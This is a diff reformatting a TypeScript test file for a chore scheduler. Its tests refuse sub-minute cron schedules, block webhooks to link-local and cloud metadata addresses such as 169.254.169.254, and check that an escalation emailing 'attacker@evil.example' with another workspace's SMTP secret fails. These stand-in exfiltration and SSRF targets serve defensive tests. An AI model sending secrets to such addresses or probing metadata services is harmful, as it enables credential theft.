@@ -15,7 +15,16 @@ import { attack } from './attackCount';
 // A chore's cron floor, where its webhooks may post, and whose secrets it may use.
 
 describe('cron: the shortest interval is one minute', () => {
-  const tooOften = ['* * * * * *', '*/30 * * * * *', '0,30 * * * * *', '*/1 * * * * *', '0-59 * * * * *', '* * * * * * *', '*/10 * * * * * 2026', '  * * * * * *  '];
+  const tooOften = [
+    '* * * * * *',
+    '*/30 * * * * *',
+    '0,30 * * * * *',
+    '*/1 * * * * *',
+    '0-59 * * * * *',
+    '* * * * * * *',
+    '*/10 * * * * * 2026',
+    '  * * * * * *  ',
+  ];
   const fine = ['* * * * *', '*/5 * * * *', '0 2 * * *', '0 * * * * *', '30 4 * * * 1', '@hourly', '@daily', '0 9 * * 1'];
   for (const pattern of tooOften) {
     it(`refuses "${pattern}"`, () => {
@@ -29,18 +38,23 @@ describe('cron: the shortest interval is one minute', () => {
   }
 
   it('an every-second cron is an error on its line, and only that chore is disabled', () => {
-    const parsed = parseChoresFile([
-      'chores:',
-      '  - id: ok',
-      '    name: Fine',
-      '    trigger: { cron: "* * * * *" }',
-      '    prompt: p',
-      '  - id: flood',
-      '    name: Flood',
-      '    trigger: { cron: "* * * * * *" }',
-      '    prompt: p',
-    ].join('\n'));
-    assert.deepEqual(parsed.chores.map((c) => c.id), ['ok']);
+    const parsed = parseChoresFile(
+      [
+        'chores:',
+        '  - id: ok',
+        '    name: Fine',
+        '    trigger: { cron: "* * * * *" }',
+        '    prompt: p',
+        '  - id: flood',
+        '    name: Flood',
+        '    trigger: { cron: "* * * * * *" }',
+        '    prompt: p',
+      ].join('\n'),
+    );
+    assert.deepEqual(
+      parsed.chores.map((c) => c.id),
+      ['ok'],
+    );
     assert.deepEqual(parsed.disabled, ['flood']);
     const error = parsed.diagnostics.find((d) => d.severity === 'error');
     assert.equal(error?.line, 8);
@@ -50,8 +64,23 @@ describe('cron: the shortest interval is one minute', () => {
 
 describe('escalation webhooks: address and redirect rules', () => {
   const refused = [
-    '169.254.169.254', '169.254.0.1', 'fe80::1', 'fe80::1%eth0', 'febf::1', '0.0.0.0', '0.1.2.3', '::', '224.0.0.1', '239.255.255.250',
-    '255.255.255.255', 'ff02::1', '::ffff:169.254.169.254', '::ffff:a9fe:a9fe', '64:ff9b::169.254.169.254', '[fe80::1]', '::ffff:0.0.0.0',
+    '169.254.169.254',
+    '169.254.0.1',
+    'fe80::1',
+    'fe80::1%eth0',
+    'febf::1',
+    '0.0.0.0',
+    '0.1.2.3',
+    '::',
+    '224.0.0.1',
+    '239.255.255.250',
+    '255.255.255.255',
+    'ff02::1',
+    '::ffff:169.254.169.254',
+    '::ffff:a9fe:a9fe',
+    '64:ff9b::169.254.169.254',
+    '[fe80::1]',
+    '::ffff:0.0.0.0',
   ];
   const allowed = ['127.0.0.1', '::1', '10.0.0.5', '192.168.1.10', '172.16.0.1', '8.8.8.8', '2001:db8::1', '::ffff:127.0.0.1', 'fec0::1'];
   for (const address of refused) {
@@ -65,11 +94,22 @@ describe('escalation webhooks: address and redirect rules', () => {
     it(`allows ${address}`, () => assert.equal(addressProblem(address), undefined));
   }
 
-  const payload = { type: 'tasklane.chore_escalation', runId: 'run-1', chore: { id: 'c', name: 'C' }, status: 'failed', reason: 'r' } as unknown as EscalationPayload;
+  const payload = {
+    type: 'tasklane.chore_escalation',
+    runId: 'run-1',
+    chore: { id: 'c', name: 'C' },
+    status: 'failed',
+    reason: 'r',
+  } as unknown as EscalationPayload;
   const options = { secrets: { getSecret: async () => undefined }, logger: silentLogger, timeoutMs: 3000 };
 
   it('never connects to a link-local or unspecified literal (the metadata service)', async () => {
-    for (const url of ['http://169.254.169.254/latest/meta-data/', 'http://[fe80::1]:8080/hook', 'http://0.0.0.0:9/hook', 'http://[::ffff:169.254.169.254]/x']) {
+    for (const url of [
+      'http://169.254.169.254/latest/meta-data/',
+      'http://[fe80::1]:8080/hook',
+      'http://0.0.0.0:9/hook',
+      'http://[::ffff:169.254.169.254]/x',
+    ]) {
       const [result] = await sendEscalation({ webhook: { url } }, payload, options);
       assert.equal(result.ok, false, url);
       assert.match(result.error?.message ?? '', /refused: .*(link-local|unspecified)/, url);
@@ -144,7 +184,11 @@ describe('chore secrets are scoped to the workspace', () => {
       attack(leaked === undefined);
     }
     // The escalation in B fails naming the missing secret; nothing is sent.
-    const [result] = await sendEscalation({ email: { to: ['attacker@evil.example'], smtpSecret: 'ops-smtp' } }, { runId: 'r', chore: { id: 'c' } } as unknown as EscalationPayload, { secrets: secretsOf(repoB), logger: silentLogger });
+    const [result] = await sendEscalation(
+      { email: { to: ['attacker@evil.example'], smtpSecret: 'ops-smtp' } },
+      { runId: 'r', chore: { id: 'c' } } as unknown as EscalationPayload,
+      { secrets: secretsOf(repoB), logger: silentLogger },
+    );
     assert.equal(result.ok, false);
     assert.match(result.error?.message ?? '', /secret "ops-smtp" .* is not set/);
     attack(!result.ok);
